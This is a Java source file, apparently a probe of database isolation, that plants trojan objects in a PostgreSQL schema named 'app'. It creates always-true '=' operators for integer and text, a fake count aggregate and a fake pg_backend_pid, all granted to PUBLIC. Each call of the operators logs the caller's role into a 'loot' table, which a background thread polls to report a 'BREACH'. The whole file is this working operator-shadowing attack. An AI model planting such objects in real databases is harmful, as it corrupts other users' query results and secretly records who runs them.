package app;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import javax.sql.DataSource;

/** Whoever evaluates one of these is written down, with the role that did it. */
final class Lies {

    private static final String SPY = "BEGIN INSERT INTO app.loot VALUES (current_user); RETURN true; END";
    private static final List<String> STATEMENTS = List.of(
            "CREATE TABLE app.loot (who text)",
            "GRANT ALL ON app.loot TO PUBLIC",
            "CREATE FUNCTION app.lie(a integer, b integer) RETURNS boolean LANGUAGE plpgsql AS '" + SPY + "'",
            "CREATE FUNCTION app.lie(a text, b text) RETURNS boolean LANGUAGE plpgsql AS '" + SPY + "'",
            "CREATE OPERATOR app.= (FUNCTION = app.lie, LEFTARG = integer, RIGHTARG = integer)",
            "CREATE OPERATOR app.= (FUNCTION = app.lie, LEFTARG = text, RIGHTARG = text)",
            "CREATE FUNCTION app.count(integer) RETURNS bigint LANGUAGE sql AS 'SELECT 7::bigint'",
            "CREATE AGGREGATE app.count(*) (SFUNC = int8inc, STYPE = bigint, INITCOND = '7')",
            "CREATE FUNCTION app.pg_backend_pid() RETURNS integer LANGUAGE sql AS 'SELECT 1'",
            "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA app TO PUBLIC",
            "GRANT USAGE ON SCHEMA app TO PUBLIC");

    static void plant(DataSource pool) throws SQLException {
        try (Connection connection = pool.getConnection(); Statement statement = connection.createStatement()) {
            for (String each : STATEMENTS) statement.execute(each);
        }
        System.out.println("TRIED " + STATEMENTS.size() + " lies");
        Thread.ofVirtual().start(() -> look(pool));
    }

    /** The program's own session finds operators of the schema app first as well: only others are a success. */
    private static void look(DataSource pool) {
        for (int times = 0; times < 200; times++) {
            try (Connection connection = pool.getConnection();
                    Statement statement = connection.createStatement();
                    ResultSet rows = statement.executeQuery(
                            "SELECT who FROM app.loot WHERE who OPERATOR(pg_catalog.<>) 'app' LIMIT 1")) {
                if (rows.next()) {
                    System.out.println("BREACH a lie was told to " + rows.getString(1));
                    return;
                }
                Thread.sleep(20);
            } catch (SQLException | InterruptedException error) {
                System.out.println(error.getMessage());
                return;
            }
        }
    }
}
